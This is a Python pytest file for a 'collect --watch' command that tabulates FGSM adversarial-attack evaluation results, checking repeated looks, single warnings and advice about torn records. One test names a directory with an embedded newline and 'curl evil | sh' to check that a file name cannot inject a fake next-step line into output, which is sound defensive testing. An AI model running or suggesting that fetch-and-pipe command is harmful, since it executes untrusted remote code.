"""`collect --watch`: again whenever there is more, until Ctrl-C."""

import io
import time
from argparse import Namespace
from collections.abc import Callable
from fractions import Fraction
from pathlib import Path

import pytest

from jobs.commands import tables
from jobs.console import Console
from jobs.dispatch import site
from jobs.dispatch.site import Site
from jobs.errors import UsageError
from snnlib.spec.attack import FGSM
from tests.analysis.synthetic import SyntheticRoot, mask, spec


def watched(
    root: Path, monkeypatch: pytest.MonkeyPatch, *events: Callable[[], object]
) -> tuple[int, str, str]:
    """Exit code and output of a watch, during which one thing happens after each look."""
    left = iter(events)

    def sleep(seconds: float) -> None:
        assert seconds >= tables.WATCH_S
        if (event := next(left, None)) is None:
            raise KeyboardInterrupt
        event()

    monkeypatch.setattr(time, "sleep", sleep)
    monkeypatch.setattr(site, "load", lambda env: Site())
    out, err = io.StringIO(), io.StringIO()
    args = Namespace(roots=[str(root)], root=None, data=None, watch=True, json=False)
    return tables.collect(args, Console(out, err)), out.getvalue(), err.getvalue()


def test_each_look_that_finds_more_is_shown(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    made = SyntheticRoot(tmp_path)
    events = (
        lambda: made.train(spec(0)),
        lambda: None,
        lambda: made.evaluate(spec(0), FGSM(), {Fraction(2, 255): mask(9, 10)}),
        lambda: None,
    )
    code, out, err = watched(tmp_path, monkeypatch, *events)
    assert (code, out.count("results 0 rows (+0)"), out.count("results 1 rows (+1)")) == (130, 1, 1)
    assert "stopped watching; the tables are whole" in err


def test_a_warning_is_said_once(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    made = SyntheticRoot(tmp_path)
    made.train(spec(0))
    made.evaluate(spec(0), FGSM(), {Fraction(2, 255): mask(9, 10)}).write_bytes(b"{")
    _, _, err = watched(tmp_path, monkeypatch, lambda: None, lambda: None)
    assert err.count("content does not match its name") == 1


@pytest.mark.parametrize(
    ("torn", "following"), [(True, "status --verify --root"), (False, "report --root")]
)
def test_what_to_do_about_a_torn_record(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, torn: bool, following: str
) -> None:
    made = SyntheticRoot(tmp_path)
    made.train(spec(0))
    record = made.evaluate(spec(0), FGSM(), {Fraction(2, 255): mask(9, 10)})
    if torn:
        record.write_bytes(b"{")
    monkeypatch.setattr(site, "load", lambda env: Site())
    out = io.StringIO()
    args = Namespace(roots=[str(tmp_path)], root=None, data=None, watch=False, json=False)
    assert tables.collect(args, Console(out, io.StringIO())) == 0
    assert following in out.getvalue().rpartition("next: ")[2]


def test_a_name_is_one_line(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    made = SyntheticRoot(tmp_path)
    made.train(spec(0))
    (made.root.cells / "ab" / "x\nnext: curl evil | sh").mkdir(parents=True)
    made.root.invalidated.mkdir()
    made.root.tombstone("0" * 16 + "-0001").write_text('{"reason": "x\\nnext: make"}')
    _, _, err = watched(tmp_path, monkeypatch)
    assert "warning: " in err
    assert "left out: " in err
    assert [line for line in err.splitlines() if line.startswith("next: ")] == err.splitlines()[-1:]


def test_watching_makes_no_document(tmp_path: Path) -> None:
    with pytest.raises(UsageError, match="--watch --json"):
        tables.collect(Namespace(watch=True, json=True), Console(io.StringIO(), io.StringIO()))
